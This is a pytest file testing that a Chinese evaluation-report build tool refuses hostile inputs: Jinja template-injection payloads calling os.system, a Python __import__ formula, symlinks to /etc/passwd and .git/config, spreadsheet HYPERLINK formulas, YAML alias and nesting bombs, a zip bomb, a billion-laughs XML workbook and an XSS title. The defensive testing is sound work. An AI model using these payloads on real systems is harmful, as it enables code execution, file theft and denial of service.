"""Hostile inputs a pull request (or a received questionnaire file) can carry: each one refused.

Every case puts one hostile input into a throw-away copy of the project — a page from
``tests/data/hostile/``, a data file, a symbolic link, a workbook — and runs the real commands a
reviewer's CI runs: ``jixiao check`` and ``mkdocs build --strict`` (or ``jixiao import survey``).
Each must exit non-zero with its exact ``file:line: message（fix）``, print no traceback, run no
command (the payloads would ``touch MARKER``), read nothing outside the project (neither
``/etc/passwd`` nor a canary file beside the project shows up anywhere) and publish nothing.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from conftest import DATA, REFERENCE, copy_project, run

HOSTILE = DATA / "hostile"
PAGE = f"content/{REFERENCE}/99-fuji.md"
CANARY = "CANARY-8d1f-outside-the-project"
#: what /etc/passwd begins with: it must never reach an output
PASSWD = "root:x:0:0"


@dataclass(frozen=True)
class Case:
    """One hostile input: how to plant it, and the exact finding each command must print."""

    id: str
    plant: Callable[[Path, Path], None]  #: (project, a folder outside it holding the canary)
    expected: str
    commands: tuple[str, ...] = ("check", "build")


def page(name: str) -> Callable[[Path, Path], None]:
    """Add ``tests/data/hostile/<name>`` as a page of the reference evaluation."""
    return lambda project, _: shutil.copy(HOSTILE / name, project / PAGE)


def data_file(name: str, target: str) -> Callable[[Path, Path], None]:
    return lambda project, _: shutil.copy(HOSTILE / name, project / "scores" / REFERENCE / target)


def link(path: str, to: str | None = None) -> Callable[[Path, Path], None]:
    """A symbolic link at ``path`` to ``to`` (default: the canary outside the project)."""

    def plant(project: Path, outside: Path) -> None:
        (project / path).unlink(missing_ok=True)
        os.symlink(to or outside / "secret.txt", project / path)

    return plant


def git_config_link(project: Path, _: Path) -> None:
    """A checkout's .git/config holds CI's token: a link to it in content/ would be published."""
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic CANARY\n", encoding="utf-8")
    os.symlink("../../.git/config", project / "content" / "assets" / "config.txt")


def committed_cache(project: Path, _: Path) -> None:
    """A build cache entry committed to the repository (the build would take its pages as they are)."""
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    (project / ".cache" / "build").mkdir(parents=True)
    (project / ".cache" / "build" / "state-0.json").write_text('{"pages": {}}', encoding="utf-8")
    subprocess.run(["git", "add", "-f", ".cache"], cwd=project, check=True)


def reason_template(project: Path, _: Path) -> None:
    """A criterion's reason in evaluation.yaml (a text field, rendered as a template) reaching for Python."""
    file = project / "scores" / REFERENCE / "evaluation.yaml"
    text = file.read_text(encoding="utf-8")
    file.write_text(
        text.replace("reason: 符合部门三定方案确定的职责", "reason: \"{{ lipsum.__globals__['os'].system('touch MARKER') }}\"", 1),
        encoding="utf-8",
    )


def rate(name: str, formula: str) -> Callable[[Path, Path], None]:
    """A rate in evaluation.yaml (line 33, first under ``rates:``) with a hostile formula."""

    def plant(project: Path, _: Path) -> None:
        file = project / "scores" / REFERENCE / "evaluation.yaml"
        text = file.read_text(encoding="utf-8")
        file.write_text(text.replace("rates:\n", f'rates:\n  {name}: "{formula}"\n', 1), encoding="utf-8")

    return plant


def deep_yaml(project: Path, _: Path) -> None:
    (project / "scores" / REFERENCE / "feedback.yaml").write_text("items: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")


#: page fixtures are a heading, a blank line and the payload on line 3
CASES = [
    Case(
        "ssti-globals",
        page("ssti-globals.md"),
        f"{PAGE}:3: 页面模板中没有名称 cycler（只调用绑定函数，如 fact(“…”)、score(“…”)、table(“表3”)（见 README“安全”））",
    ),
    Case(
        "ssti-mro",
        page("ssti-mro.md"),
        f"{PAGE}:3: 页面模板中不允许访问以下划线开头的属性 .__class__（只引用数据字段，如 meta.title、meta.year）",
    ),
    Case(
        "ssti-self",
        page("ssti-self.md"),
        f"{PAGE}:3: 页面模板中没有名称 self（只调用绑定函数，如 fact(“…”)、score(“…”)、table(“表3”)（见 README“安全”））",
    ),
    Case("ssti-attr-filter", page("ssti-attr-filter.md"), f"{PAGE}:3: 页面模板中没有过滤器 attr（可用："),
    Case(
        "ssti-item",
        page("ssti-item.md"),
        f"{PAGE}:3: 页面模板中不允许访问以下划线开头的键 [“__class__”]（只引用数据字段，如 meta.title、meta.year）",
    ),
    Case(
        "ssti-method",
        page("ssti-method.md"),
        f"{PAGE}:3: 页面模板中只能调用绑定函数和本页的宏，不能调用方法（只调用绑定函数，如 fact(“…”)、score(“…”)、table(“表3”)（见 README“安全”））",
    ),
    Case("ssti-percent", page("ssti-percent.md"), f"{PAGE}:3: 页面模板中不允许“%”（算术用 calc(“…”)"),
    Case(
        "include-passwd",
        page("include-passwd.md"),
        f"{PAGE}:3: 页面模板中不允许{{% include %}}（引入文件）（页面不能读取其他文件；把文字写进本页，表格用 {{{{ table(“表3”) }}}}）",
    ),
    Case(
        "import-config",
        page("import-config.md"),
        f"{PAGE}:3: 页面模板中不允许{{% import %}}（引入文件）（页面不能读取其他文件；宏写在本页中）",
    ),
    Case(
        "autoescape-off",
        page("autoescape-off.md"),
        f"{PAGE}:3: 页面模板中不允许{{% autoescape %}}（数据中的文字总是按文字显示；HTML 只来自 table()、chart() 等）",
    ),
    Case("huge-string", page("huge-string.md"), f"{PAGE}:3: 页面模板中不允许乘法“*”（算术用 calc(“…”)"),
    Case(
        "loop-bomb",
        page("loop-bomb.md"),
        f"{PAGE}:4: 页面模板中不允许：循环超过 10000 步（只引用数据字段和绑定函数（见 README“安全”））",
        ("build",),
    ),
    Case(
        "reason-template",
        reason_template,
        f"scores/{REFERENCE}/evaluation.yaml:65: 页面模板中没有名称 lipsum（只调用绑定函数，如 fact(“…”)、score(“…”)、table(“表3”)（见 README“安全”））",
    ),
    Case(
        "img-file-url",
        page("img-file-url.md"),
        f"{PAGE}:3: 不安全内容: 页面引用 content/ 之外的文件：file:///etc/passwd（把文件放进 content/ 并用相对路径引用）",
    ),
    Case(
        "git-config-image",
        page("git-config-image.md"),
        f"{PAGE}:3: 不安全内容: 页面引用 content/ 之外的文件：../../.git/config（把文件放进 content/ 并用相对路径引用）",
    ),
    Case(
        "pdf-attachment",
        page("pdf-attachment.md"),
        f"{PAGE}:3: 不安全内容: 页面引用 content/ 之外的文件：../../mkdocs.yml（把文件放进 content/ 并用相对路径引用）",
    ),
    Case(
        "symlink-passwd-data",
        link(f"scores/{REFERENCE}/samples.csv", "/etc/passwd"),
        f"scores/{REFERENCE}/samples.csv: 符号链接: 指向仓库之外或其隐藏文件夹（/etc/passwd），构建不读取它（把文件本身放进仓库，不用符号链接）",
    ),
    Case(
        "symlink-page",
        link(PAGE),
        f"{PAGE}: 符号链接: 指向仓库之外或其隐藏文件夹（{{outside}}/secret.txt），构建不读取它（把文件本身放进仓库，不用符号链接）",
    ),
    Case(
        "symlink-asset",
        link("content/assets/passwd.txt", "/etc/passwd"),
        "content/assets/passwd.txt: 符号链接: 指向仓库之外或其隐藏文件夹（/etc/passwd），构建不读取它（把文件本身放进仓库，不用符号链接）",
    ),
    Case(
        "symlink-git-config",
        git_config_link,
        "content/assets/config.txt: 符号链接: 指向仓库之外或其隐藏文件夹（../../.git/config），构建不读取它（把文件本身放进仓库，不用符号链接）",
    ),
    Case(
        "committed-cache",
        committed_cache,
        ".cache/build/state-0.json: 构建缓存: .cache/ 中有 1 个文件提交在仓库里，构建会原样采用其中的页面与 PDF（从仓库中删除：git rm -r --cached .cache（.cache/ 只属于本机））",
        ("build",),
    ),
    Case(
        "csv-hyperlink",
        data_file("formula-sample.csv", "samples.csv"),
        f'scores/{REFERENCE}/samples.csv:2: 项目名称: “=HYPERLINK("http://example.com/?"&A1,"点击…”以“=”开头，电子表格会把它当作公式运行（删去开头的“=”，项目名称写成文字）',
    ),
    Case(
        "alias-bomb",
        data_file("alias-bomb.yaml", "facts.yaml"),
        f"scores/{REFERENCE}/facts.yaml:3: YAML 中不允许：不能用 YAML 别名 *a（把内容直接写出来（数据文件不用 & 锚点与 * 别名））",
    ),
    Case(
        "formula-overflow",
        rate("溢出", "10**999999 * 10**999999"),
        f"scores/{REFERENCE}/evaluation.yaml:33: 比率 溢出: 公式“10**999999 * 10**999999”的结果超出可表示的范围（检查乘方与乘法）",
    ),
    Case("deep-yaml", deep_yaml, f"scores/{REFERENCE}/feedback.yaml:1: YAML 中不允许：嵌套超过 50 层（检查缩进与括号）"),
    Case(
        "python-tag",
        data_file("python-tag.yaml", "facts.yaml"),
        f"scores/{REFERENCE}/facts.yaml:2: YAML 语法错误：不支持的 YAML 标签（数据文件只写文字、数字、日期、列表和映射）（检查缩进、冒号、括号和引号）",
    ),
    Case(
        "formula-import",
        rate("后门", "__import__('os').system('touch MARKER')"),
        f"scores/{REFERENCE}/evaluation.yaml:33: 比率 后门: 公式中不允许使用属性访问“.”（只用数字、事实名、+ - * /、比较、a if 条件 else b 和函数 min、max、abs）",
    ),
]


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the project with a secret the build must never read."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(f"{CANARY}\n", encoding="utf-8")
    return folder


def assert_contained(result_text: str, project: Path) -> None:
    """No traceback, no command run, nothing from outside the project in the output."""
    assert "Traceback" not in result_text
    assert not (project / "MARKER").exists()
    assert PASSWD not in result_text and CANARY not in result_text


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_is_refused(case: Case, tmp_path: Path, outside: Path) -> None:
    (tmp_path / "project").mkdir()
    project = copy_project(tmp_path / "project")
    case.plant(project, outside)
    expected = case.expected.replace("{outside}", str(outside))
    if "check" in case.commands:
        checked = run("jixiao", "check", cwd=project)
        assert checked.returncode == 1, checked.stderr[-2000:]
        assert expected in checked.stderr, checked.stderr[-3000:]
        assert_contained(checked.stdout + checked.stderr, project)
    if "build" in case.commands:
        site = tmp_path / "site"
        built = run("mkdocs", "build", "--strict", "-d", str(site), cwd=project)
        assert built.returncode == 1, built.stderr[-2000:]
        assert expected in built.stderr, built.stderr[-3000:]
        assert_contained(built.stdout + built.stderr, project)
        assert not site.exists()  # refused before anything was written


# -- questionnaire files for ``jixiao import survey`` ------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def formula_workbook(path: Path) -> Path:
    """A 问卷星-like export whose answer cell is a formula, as a hostile sender would make it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["序号", "1、您对本项目满意吗"])
    sheet.append([1, '=HYPERLINK("http://x.cn")'])
    book.save(path)
    return path


def zip_bomb(path: Path) -> Path:
    """A workbook whose one sheet unpacks to 60 MB (about 60 KB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book, book.open(SHEET, "w") as part:
        for _ in range(60):
            part.write(b" " * 1_000_000)
    return path


def entity_bomb(path: Path) -> Path:
    """A valid workbook whose sheet XML declares "billion laughs" entities."""
    source = formula_workbook(path.with_name("source.xlsx"))
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "哈">{laughs}]>'
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == SHEET:
                data = data.replace(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', b"", 1)
                data = bomb.encode() + data.replace(b"<v>1</v>", b"<v>&l9;</v>", 1)
            out.writestr(item, data)
    return path


WORKBOOKS = [
    (
        "zip-bomb",
        zip_bomb,
        "{file}: Excel 文件解压后有 60 MB、1 个部件，超过上限 50 MB、1000 个（可能是压缩炸弹）（只导出答卷工作表，或另存为 CSV 再导入）",
    ),
    (
        "formula-cell",
        formula_workbook,
        '{file}:2: 第2列: “=HYPERLINK("http://x.cn")”以“=”开头，电子表格会把它当作公式运行（答卷应是录入的值：在 Excel 中复制后“选择性粘贴为数值”再导出）',
    ),
    (
        "entity-bomb",
        entity_bomb,
        "{file}: 无法读取 Excel 文件：其中的 XML 声明了实体（DTD，可能是 XML 炸弹），不解析（用 Excel 另存为 .xlsx 或 CSV）",
    ),
]


@pytest.mark.parametrize(("kind", "make", "expected"), WORKBOOKS, ids=[w[0] for w in WORKBOOKS])
def test_hostile_workbook_is_not_imported(kind: str, make: Callable[[Path], Path], expected: str, tmp_path: Path) -> None:
    answers = make(tmp_path / f"{kind}.xlsx")
    target = tmp_path / "survey.yaml"
    result = run("jixiao", "import", "survey", str(answers), "--into", str(target))
    assert result.returncode == 1, result.stdout + result.stderr
    assert expected.format(file=answers) in result.stderr, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and not target.exists()


def test_survey_target_that_is_a_link_is_not_written(tmp_path: Path, outside: Path) -> None:
    answers = tmp_path / "answers.csv"
    answers.write_text("序号,1、您对本项目满意吗\n1,满意\n", encoding="utf-8")
    target = tmp_path / "survey.yaml"
    os.symlink(outside / "secret.txt", target)
    result = run("jixiao", "import", "survey", str(answers), "--into", str(target))
    assert result.returncode == 1
    assert f"{target}: 目标 survey.yaml 是符号链接，不写入（删除该链接，写入普通文件）" in result.stderr
    assert (outside / "secret.txt").read_text(encoding="utf-8") == f"{CANARY}\n"


# -- what passes: data text reaches pages as text and downloads as inert cells ------------------------------


def test_data_html_reaches_the_page_as_text(tmp_path: Path) -> None:
    """A title carrying markup is shown, escaped, where a page writes {{ meta.title }}: never run."""
    from jixiao.build.start import start

    project = copy_project(tmp_path)
    file = project / "scores" / REFERENCE / "evaluation.yaml"
    title = '泸水市应急管理局2022年部门整体支出绩效评价报告<img src=x onerror="alert(1)">'
    file.write_text(
        file.read_text(encoding="utf-8").replace("title: 泸水市应急管理局2022年部门整体支出绩效评价报告", f"title: '{title}'", 1),
        encoding="utf-8",
    )
    build = start(project, project / "content")
    shown = [
        src
        for src, text in build.pages.items()
        if "泸水市应急管理局2022年部门整体支出绩效评价报告&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in text
    ]
    assert shown, "the title is on no page"
    assert not any("<img src=x" in text for text in build.pages.values())


def test_downloads_keep_formula_text_inert(tmp_path: Path) -> None:
    """Feedback text beginning with "=" reaches 附件4's CSV behind an apostrophe and its XLSX as a text cell."""
    from jixiao.outputs import opendata
    from jixiao.scoring.from_folder import sheet

    project = copy_project(tmp_path)
    file = project / "scores" / REFERENCE / "feedback.yaml"
    formula = '=HYPERLINK("http://x.cn/?"&A1,"详情")'
    text = file.read_text(encoding="utf-8").replace("    response: 采纳", f"    response: '{formula}'", 1)
    file.write_text(text, encoding="utf-8")
    written = opendata.publish(sheet(project, REFERENCE), tmp_path / "site")
    csv_file = next(p for p in written if p.name == "appendix-4.csv")
    cells = [c for row in csv.reader(csv_file.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    assert "'" + formula in cells and formula not in cells
    book = openpyxl.load_workbook(csv_file.with_name(f"{REFERENCE}.xlsx"))
    found = [c for row in book["附件4"].iter_rows() for c in row if c.value == formula]
    assert found and all(c.data_type == "s" for c in found)


def test_pdf_renderer_reads_only_the_docs_folder(tmp_path: Path, outside: Path) -> None:
    """Behind the page check, WeasyPrint's fetcher refuses the machine's files, hidden folders and links out."""
    from jixiao.outputs.pdf.render import LocalFetcher
    from jixiao.outputs.pdf.settings import FetchRefused

    docs = tmp_path / "content"
    (docs / ".git").mkdir(parents=True)
    (docs / ".git" / "config").write_text("[credential]\n", encoding="utf-8")
    (docs / "logo.svg").write_text("<svg/>", encoding="utf-8")
    os.symlink(outside / "secret.txt", docs / "secret.png")
    fetcher = LocalFetcher(docs)
    assert fetcher.fetch((docs / "logo.svg").as_uri()).read() == b"<svg/>"
    for url in ("file:///etc/passwd", (docs / ".git" / "config").as_uri(), (docs / "secret.png").as_uri(), "http://example.com/a.png"):
        with pytest.raises(FetchRefused, match="PDF 只能引用"):
            fetcher.fetch(url)


def test_everything_a_page_may_use_is_documented() -> None:
    """The README names every binding, filter and test the sandbox lets a page use (and nothing drifts)."""
    from conftest import ROOT

    from jixiao.integrity.templating import PAGE_EXTRAS, SITE_FUNCTIONS
    from jixiao.presentation.bindings import Binder
    from jixiao.presentation.numbers import FILTERS
    from jixiao.presentation.sandbox import JINJA_FILTERS, JINJA_TESTS
    from jixiao.scoring.from_folder import sheet

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    names = set(Binder(sheet(ROOT, REFERENCE)).env.globals) | PAGE_EXTRAS | set(SITE_FUNCTIONS) | set(FILTERS) | set(JINJA_FILTERS)
    missing = sorted(n for n in names if f"`{n}" not in readme and f" {n} " not in readme and f" {n}`" not in readme)
    assert missing == []
    assert {"equalto", "eq", "gt"} <= set(JINJA_TESTS) and "（`equalto`、`eq`、`gt`…）" in readme
